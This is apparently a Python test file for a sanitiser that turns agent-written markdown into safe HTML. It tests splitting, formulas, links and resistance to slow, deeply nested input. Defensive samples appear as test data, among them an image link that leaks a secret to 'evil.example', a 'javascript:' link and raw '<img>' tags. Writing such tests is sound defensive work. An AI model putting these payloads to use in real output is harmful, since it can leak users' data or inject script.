"""Markdown from anyone becomes harmless HTML, block by block."""

from __future__ import annotations

import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from nbagent.widgets.markdown import BLOCK_LIMIT, Rendered, highlight, render, safe_markdown, sanitise
from nbagent.widgets.splitter import Splitter
from tests.widgets.telling import HOSTILE, inspect

LINES = st.sampled_from(
    ["", "", "word *em* `code`", "# Head", "## Two", "- item", "  more", "    code", "1. one", "2. two", "   - nested",
     "> quote", "> - in quote", "> ```", "```", "```python", "~~~", "````", "---", "===", "| a | b |", "|---|--:|",
     "| 1 | 2 |", "\ttab", "* * *", "+ plus", "text  ", "<b>raw</b>", "10) ten", "#hash", "-", "    - deep", "$$",
     "$$ a", "b $$", "  $$", "$$x$$", "> $$", "- $$", "\\[", "\\]", "\\[y\\]", "cost $5 and $a_1$ or $b*c$"]
)  # fmt: skip


@settings(max_examples=400)
@given(st.lists(LINES, max_size=14), st.integers(1, 7))
@example(["---", "    code", "", "    code"], 1)
@example(["> $$", "> $$", "", "> $$"], 1)
@example(["> > $$", "> > $$", ">", "> a $$"], 1)
def test_blocks_rendered_apart_equal_the_whole(lines: list[str], step: int) -> None:
    source = "\n".join(lines)
    splitter, blocks = Splitter(), list[str]()
    for start in range(0, len(source), step):
        blocks += splitter.feed(source[start : start + step])
    blocks += splitter.close()
    assert "".join(map(render, blocks)) == render(source)


FORMULAS = ["$a*b*c$", "$x_1 + y_1$", r"\(p*q*r\)", "$$a_1*b_1*c$$", "$5$", r"$\frac{a}{b}<c$", "$$\na*b*c\n$$"]
NO_FORMULAS = [
    "$5 and $6", "$5, or 10$ there", "US$5/US$6", "from $5-$6", "echo $HOME/$USER", "$ x $", r"\$a\$",
    "`$a*b*c$`", "a $$$$ b",
]  # fmt: skip


@pytest.mark.parametrize("formula", [*FORMULAS, "\\[\na*b*c\n\n\\]", "$$\na\n\n*b*c*\n$$", r"$\input{x*y*z}$"])
def test_a_formula_is_kept_whole(formula: str) -> None:
    html = render(f"Say\n{formula}\n*so*")
    assert "<em>so</em>" in html and html.count("<em>") == 1
    assert formula in inspect(html).text
    kept = formula.removesuffix("\\]") if "\n\n" in formula or "input" in formula else ""
    assert ('class="nba-math"' in html) is not bool(kept), "what may do more than set signs is given to no renderer"


@pytest.mark.parametrize("text", NO_FORMULAS)
def test_what_is_no_formula_stays_text(text: str) -> None:
    assert "nba-math" not in render(text)


def test_only_the_markdown_of_an_agent_makes_formulas() -> None:
    assert "nba-math" not in sanitise('<span class="nba-math">$a$</span><div class="nba-math">$$a$$</div>')


def test_a_formula_over_several_lines_is_one_block() -> None:
    splitter = Splitter()
    assert splitter.feed("Text\n$$\na\n\n# b\n") == []
    assert splitter.feed("$$\n") == ["Text\n$$\na\n\n# b\n$$\n"]
    assert splitter.feed("$$ is no formula\n\n") == [], "it may come yet"
    assert len(splitter.feed("word\n\n" * 100)) == 101, "but not for ever"


def test_a_paragraph_is_over_at_its_blank_line() -> None:
    splitter = Splitter()
    assert splitter.feed("One\ntwo\n") == []
    assert splitter.feed("\nThr") == ["One\ntwo\n\n"]
    assert splitter.tail == "Thr"


def test_a_fence_is_over_at_its_end_and_holds_blank_lines() -> None:
    splitter = Splitter()
    assert splitter.feed("```python\na\n\n# no heading\n") == []
    assert splitter.in_code
    assert splitter.feed("```\n") == ["```python\na\n\n# no heading\n```\n"]


def test_a_list_goes_on_after_a_blank_line() -> None:
    splitter = Splitter()
    assert splitter.feed("- a\n\n- b\n\n  more\n\n") == []
    assert splitter.feed("After\n") == ["- a\n\n- b\n\n  more\n\n"]


def test_the_inspector_sees_what_is_hostile() -> None:
    acting = [text for text in HOSTILE if "<" in text.split("`")[0]]
    assert len(acting) > 10
    assert all(inspect(text).faults for text in acting)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_harmless(text: str) -> None:
    assert inspect(render(text)).faults == []
    assert inspect(sanitise(text)).faults == []


@settings(max_examples=300)
@given(
    st.lists(st.sampled_from([*HOSTILE, "<", ">", '"', "'", "](", "![", "`", "\n\n", "<svg>", "&#x6a;"]), max_size=6)
)
def test_hostile_pieces_together_are_harmless(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert inspect(render(text)).faults == []
    assert inspect(render(safe_markdown(text))).faults == []


def test_a_remote_image_is_its_address_as_text() -> None:
    html = render("![chart](https://evil.example/leak.png?secret=1) and ![x](//evil.example/y.png)")
    found = inspect(html)
    assert "<img" not in html
    assert "image: chart https://evil.example/leak.png?secret=1" in found.text
    assert 'href="https://evil.example/y.png"' in html


def test_links_are_kept_apart_from_the_page() -> None:
    html = render("[x](https://example.com) https://example.org")
    assert html.count('rel="noopener noreferrer"') == 2
    assert html.count('target="_blank"') == 2


def test_a_bad_link_keeps_its_text() -> None:
    assert inspect(render("[click](javascript:alert(1))")).text == "click"


def test_raw_html_is_text_but_for_line_breaks() -> None:
    assert render("a <b>bold</b>") == "<p>a &lt;b&gt;bold&lt;/b&gt;</p>"
    assert "1<br>2" in render("| a |\n|---|\n| 1<br>2 |").replace("\n", "")


def test_tables_keep_their_alignment_without_style() -> None:
    html = render("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert '<td align="right">2</td>' in html
    assert "style" not in html


def test_code_is_highlighted_with_few_classes() -> None:
    expected = '<span class="k">def </span><span class="f">f</span>(): <span class="k">pass</span>'
    assert highlight("def f(): pass", "python") == expected
    assert highlight("<b>", "no-such-language") == "&lt;b&gt;"


def test_link_definitions_serve_later_blocks_and_the_whole() -> None:
    rendered = Rendered()
    source = "[a][1] first\n\n[1]: https://example.com\n\n[b][1] later\n\n"
    rendered.advance(source, True)
    assert "example.com" in rendered.pieces[-1]
    assert rendered.whole(source).count("https://example.com") == 2


def test_a_huge_block_is_plain_text() -> None:
    html = render("*x*" * BLOCK_LIMIT)
    assert "<em>" not in html


DEEP = ["[" * 20_000, "*a **a " * 3_000, "[a](" * 6_000, "> " * 9_000, "`" * 20_000 + "a", "<a " * 9_000,
        "$" * 45_000, "$a" * 9_000, "$$\n" * 4_000, "\\(" * 9_000, ("$$ a\n" + "x\n" * 99) * 40]  # fmt: skip


@pytest.mark.parametrize("text", DEEP)
def test_hostile_nesting_takes_no_time(text: str) -> None:
    began = time.process_time()
    render(text)
    safe_markdown(text)
    assert time.process_time() - began < 3


@pytest.mark.parametrize("text", ["$" * 100_000, "$$ a\n" * 20_000, "$$\n" * 40_000, ("$$ a\n" + "x\n" * 99) * 500])
def test_a_text_full_of_dollars_is_cut_in_linear_time(text: str) -> None:
    began = time.process_time()
    splitter = Splitter()
    assert "".join(splitter.feed(text) + splitter.close()) == text
    assert time.process_time() - began < 2


def test_harmless_markdown_stays_as_it_was() -> None:
    source = (
        "## Head\n\nSome *words*, `x < y`, [a link](https://example.com).\n\n- one\n- two\n\n```python\nx = '<b>'\n```"
    )
    assert safe_markdown(source) == source


PIECES = ["[a](https://x.example/y)", "[", "]", "(", ")", "!", "\\", "`", "\n", ":", " ", "<", "&lt;", "&#33;", "https://x",
          "javascript:x", "//x", "- ", "> ", "| a |\n|---|\n"]  # fmt: skip
COMMON = MarkdownIt("commonmark").enable("table")
COMMON.validateLink = lambda url: True


@settings(max_examples=500)
@given(st.lists(st.sampled_from(PIECES), max_size=9))
@example(["!", "[a](https://x.example/y)"])
@example(["[a](https://x.example/y)", "[", "a", "]", "(", "javascript:x", ")"])
def test_what_is_kept_of_markdown_holds_nothing_but_safe_links(pieces: list[str]) -> None:
    text = "".join(pieces).strip()
    if safe_markdown(text) != text:
        return
    tokens = COMMON.parse(text)
    inline = [child for token in tokens for child in token.children or []]
    assert not {"html_block", "html_inline", "image"}.intersection(token.type for token in [*tokens, *inline])
    assert all(str(token.attrGet("href")).startswith("https://") for token in inline if token.type == "link_open")


@pytest.mark.parametrize("step", [7, 100_000])
def test_blocks_that_end_together_are_as_if_each_were_alone(step: int) -> None:
    nested = f"{'[' * 150}\n\n"
    source = f"# One\n\n- a\n- b\n\n{nested}{nested}```\ncode\n```\n\n" + "Some *text*.\n\n" * 2000 + f"{'[' * 300}\n\n"
    rendered = Rendered()
    for end in range(step, len(source) + step, step):
        rendered.advance(source[:end], end >= len(source))
    splitter = Splitter()
    assert "".join(rendered.pieces) == "".join(map(render, splitter.feed(source) + splitter.close()))


ACTIVE = ["![a](https://e.example/x)", "[a](javascript:x)", "<img src=x>", "[r]: //e.example/x"]


@pytest.mark.parametrize("text", ACTIVE)
def test_markdown_that_could_act_is_escaped(text: str) -> None:
    escaped = safe_markdown(f"Fine.\n\n{text}")
    assert escaped.startswith("Fine.\n\n")
    assert text not in escaped
    assert inspect(render(escaped)).text == f"Fine.{text}"


@pytest.mark.parametrize("text", ["<b>raw</b> `x` " * 1000, "`a`|b " * 20_000, "```\n" + "<b>\n" * 20_000])
def test_a_long_block_is_given_to_no_other_parser(text: str) -> None:
    marked = safe_markdown(text)
    fence = marked.partition("\n")[0]
    assert set(fence) == {"`"} and marked.endswith(f"\n{fence}")
    assert fence not in marked[len(fence) : -len(fence)]
